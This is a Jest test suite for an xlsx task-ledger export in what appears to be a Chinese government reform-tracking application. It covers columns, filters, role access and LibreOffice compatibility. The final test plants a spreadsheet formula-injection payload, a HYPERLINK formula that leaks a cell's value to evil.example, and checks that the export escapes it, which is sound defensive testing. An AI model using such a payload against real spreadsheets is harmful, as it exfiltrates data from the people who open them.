import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createTestApp, type TestApp } from './app.js';
import { bearer } from './auth-helper.js';
import { makeBatch, makeProvinceWorld } from './factories.js';

const HEADERS = ['序号', '改革事项', '批次/文号', '牵头部门', '参与部门', '推广范围', '时间节点', '可检验成果', '最新进展', '存在问题', '状态', '是否逾期', '是否销号', '销号日期'];
const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p));


describe('ledger export (台账 xlsx)', () => {
  let t: TestApp;
  let world: Awaited<ReturnType<typeof makeProvinceWorld>>;
  let batch: Awaited<ReturnType<typeof makeBatch>>;
  let docNumber: string;
  let taskIds: string[];
  const auth: Record<string, string> = {};
  const download = (query = '', who = 'leader') => t.http.get(`/api/exports/ledger.xlsx${query}`).set('Authorization', auth[who]).responseType('blob'); // the body as a Buffer
  const sheetOf = async (body: Buffer) => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(body as unknown as ExcelJS.Buffer);
    return wb.getWorksheet('台账')!;
  };

  beforeAll(async () => {
    t = await createTestApp();
    world = await makeProvinceWorld(t.db);
    batch = await makeBatch(t.db, [
      { name: '国际贸易单一窗口', deadlineDate: '2026-11-10', scopeText: '全省' },
      { name: '社会信用体系建设', deadlineKind: 'ongoing', deadlineText: '持续实施' },
      { name: '扩大服务业开放', deadlineKind: 'conditional', deadlineText: '结合扩大开放情况' },
      { name: '融资租赁监管', deadlineDate: '2026-12-31' },
    ]);
    [{ doc_number: docNumber }] = await t.db.query('SELECT doc_number FROM policy_document WHERE id = $1', [batch.documentId]);
    for (const [role, user] of Object.entries(world.users)) auth[role] = await bearer(t, user.username);
    const adopted = await t.http.post(`/api/batches/${batch.batchId}/adopt`).set('Authorization', auth.coordinator).send({ regionId: world.province.id });
    taskIds = adopted.body.taskIds;
    const [t1, t2, t3, t4] = taskIds;
    await t.db.query(`UPDATE task SET status = 'in_progress', lead_department_id = $2, outcome = '建成单一窗口标准版' WHERE id = $1`, [t1, world.leadDept.id]);
    await t.db.query(`INSERT INTO task_participant (task_id, department_id) VALUES ($1, $2)`, [t1, world.otherDept.id]);
    // closed 2026-11-19T18:00Z is already 11-20 in Shanghai: the ledger shows the province's date
    await t.db.query(`UPDATE task SET status = 'closed', closed_at = '2026-11-19T18:00:00Z', lead_department_id = $2 WHERE id = $1`, [t2, world.otherDept.id]);
    await t.db.query(`UPDATE task SET status = 'not_applicable' WHERE id = $1`, [t4]);
    await t.db.query(
      `INSERT INTO progress_report (task_id, period, status, progress, problems) VALUES
         ($1, '2026Q3', 'accepted', '完成方案编制', NULL), ($1, '2026Q4', 'submitted', '系统上线试运行', '数据接口未打通'), ($2, '2026Q4', 'draft', '草稿不出现', NULL)`,
      [t1, t3],
    );
  }, 30_000);
  afterAll(() => t.close());

  it('streams one row per task with Chinese headers, a frozen header row, real dates and labels', async () => {
    const res = await download();
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent(world.province.name)}`);
    const sheet = await sheetOf(res.body);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADERS);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(2).width).toBe(36);
    expect(sheet.getCell('B2').alignment).toMatchObject({ wrapText: true });
    expect(sheet.rowCount).toBe(5); // header + 4 tasks

    const row = (n: number) => Object.fromEntries(HEADERS.map((h, i) => [h, sheet.getRow(n).getCell(i + 1).value]));
    expect(row(2)).toEqual({
      序号: 1,
      改革事项: '国际贸易单一窗口',
      '批次/文号': expect.stringContaining(docNumber),
      牵头部门: world.leadDept.name,
      参与部门: world.otherDept.name,
      推广范围: '全省',
      时间节点: new Date('2026-11-10T00:00:00Z'),
      可检验成果: '建成单一窗口标准版',
      最新进展: '【2026Q4】系统上线试运行',
      存在问题: '数据接口未打通',
      状态: '推进中',
      是否逾期: '是', // due 11-10, today 11-26
      是否销号: '否',
      销号日期: null,
    });
    expect(sheet.getCell('G2').numFmt).toBe('yyyy-mm-dd');
    expect(row(3)).toMatchObject({ 序号: 2, 时间节点: '持续实施', 状态: '已销号', 是否逾期: '否', 是否销号: '是', 销号日期: new Date('2026-11-20T00:00:00Z'), 最新进展: null });
    expect(sheet.getCell('N3').numFmt).toBe('yyyy-mm-dd');
    expect(row(4)).toMatchObject({ 序号: 3, 时间节点: '视条件推进', 状态: '未启动', 最新进展: null }); // a draft is not progress
    expect(row(5)).toMatchObject({ 序号: 4, 时间节点: new Date('2026-12-31T00:00:00Z'), 状态: '不适用', 是否逾期: '否' });
  });

  it('takes the dashboard filters: lead department, and the period for the latest progress', async () => {
    const lead = await sheetOf((await download(`?departmentId=${world.leadDept.id}&period=2026Q3`)).body);
    expect(lead.rowCount).toBe(2);
    expect(lead.getCell('B2').value).toBe('国际贸易单一窗口');
    expect(lead.getCell('I2').value).toBe('【2026Q3】完成方案编制');
    expect(lead.getCell('J2').value).toBeNull();
  });

  it("takes the task ledger's filters too: status, overdue and text, as GET /api/tasks means them", async () => {
    const names = async (query: string) => {
      const sheet = await sheetOf((await download(query, 'coordinator')).body);
      return Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getCell(`B${i + 2}`).value);
    };
    const listed = async (query: string) =>
      (await t.http.get(`/api/tasks${query}`).set('Authorization', auth.coordinator)).body.items.map((i: { reformItem: { name: string } }) => i.reformItem.name).sort();
    for (const query of ['?status=not_started,not_applicable', '?overdue=true', `?q=${encodeURIComponent('单一窗口')}`, '?dueWithinDays=60']) {
      expect((await names(query)).sort()).toEqual(await listed(query));
    }
    expect(await names('?overdue=true')).toEqual(['国际贸易单一窗口']);
    expect((await download('?status=done', 'coordinator')).status).toBe(400);
  });

  it('takes the task list’s 待确认 filter: only the tasks whose applicability the coordinator must still decide', async () => {
    const names = async (query: string) => {
      const res = await download(query, 'coordinator');
      expect(res.status).toBe(200);
      const sheet = await sheetOf(res.body);
      return Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getCell(`B${i + 2}`).value);
    };
    const itemTask = `(SELECT t.id FROM task t JOIN reform_item i ON i.id = t.reform_item_id WHERE i.batch_id = $1 AND t.region_id = $2 AND i.name = $3)`;
    const saved: { id: string; status: string; not_applicable_reason: string | null }[] = await t.db.query(
      `SELECT t.id, t.status, t.not_applicable_reason FROM task t JOIN reform_item i ON i.id = t.reform_item_id WHERE i.batch_id = $1 AND t.region_id = $2`,
      [batch.batchId, world.province.id],
    );
    await t.db.query(`UPDATE task SET pending_decision = '有意愿的' WHERE id = ${itemTask}`, [batch.batchId, world.province.id, '扩大服务业开放']);
    // A task set aside as not applicable is no longer 待确认, whatever phrase it kept.
    await t.db.query(`UPDATE task SET pending_decision = '先行探索', status = 'not_applicable', not_applicable_reason = '本省不适用' WHERE id = ${itemTask}`, [batch.batchId, world.province.id, '社会信用体系建设']);
    try {
      expect(await names('?pendingDecision=true')).toEqual(['扩大服务业开放']);
      expect(await names('?pendingDecision=false')).not.toContain('扩大服务业开放');
      const listed = (await t.http.get('/api/tasks?pendingDecision=true').set('Authorization', auth.coordinator)).body.items.map((i: { reformItem: { name: string } }) => i.reformItem.name);
      expect(listed).toEqual(['扩大服务业开放']);
      const bad = await download('?pendingDecision=maybe', 'coordinator');
      expect(bad.status).toBe(400);
      expect(JSON.parse(bad.body.toString()).errors[0].field).toBe('pendingDecision');
    } finally {
      for (const r of saved) await t.db.query('UPDATE task SET pending_decision = NULL, status = $2, not_applicable_reason = $3 WHERE id = $1', [r.id, r.status, r.not_applicable_reason]);
    }
  });

  it('is for coordinators, leaders and departments, not cities; bad filters answer 400 before any file', async () => {
    expect((await download('', 'department')).status).toBe(200);
    expect((await download('', 'coordinator')).status).toBe(200);
    const city = await t.http.get('/api/exports/ledger.xlsx').set('Authorization', auth.city);
    expect(city.status).toBe(403);
    const bad = await t.http.get('/api/exports/ledger.xlsx?period=2099Q1').set('Authorization', auth.leader);
    expect(bad.status).toBe(400);
    expect(bad.headers['content-type']).toContain('application/json');
    expect(bad.body.errors[0].field).toBe('period');
  });

  (SOFFICE ? it : it.skip)('opens in LibreOffice without repair (headless conversion to csv keeps every cell)', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'ledger-lo-'));
    try {
      const file = path.join(dir, 'ledger.xlsx');
      writeFileSync(file, (await download()).body);
      execFileSync(SOFFICE!, [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', dir, file], { timeout: 120_000, stdio: 'pipe' });
      const csv = readFileSync(path.join(dir, 'ledger.csv'), 'utf8');
      expect(csv.split('\n')[0]).toBe(HEADERS.join(','));
      expect(csv).toContain('国际贸易单一窗口');
      expect(csv).toContain('2026-11-10');
      expect(csv).toContain('2026-11-20');
      expect(csv).toContain('持续实施');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 150_000);

  it('writes text a spreadsheet would run as a formula as plain text (leading quote)', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
    const [, , t3] = taskIds;
    await t.db.query(`UPDATE reform_item SET name = $2 WHERE id = (SELECT reform_item_id FROM task WHERE id = $1)`, [t3, formula]);
    await t.db.query(`UPDATE task SET outcome = '+1+1', scope_text = '@SUM(A1)' WHERE id = $1`, [t3]);
    const sheet = await sheetOf((await download()).body);
    const row = [...Array(sheet.rowCount).keys()].map((i) => sheet.getRow(i + 1)).find((r) => String(r.getCell(2).value).includes('HYPERLINK'))!;
    expect(row.getCell(2).value).toBe(`'${formula}`);
    expect(row.getCell(6).value).toBe(`'@SUM(A1)`);
    expect(row.getCell(8).value).toBe(`'+1+1`);
    expect(row.getCell(2).formula).toBeUndefined();
  });
});
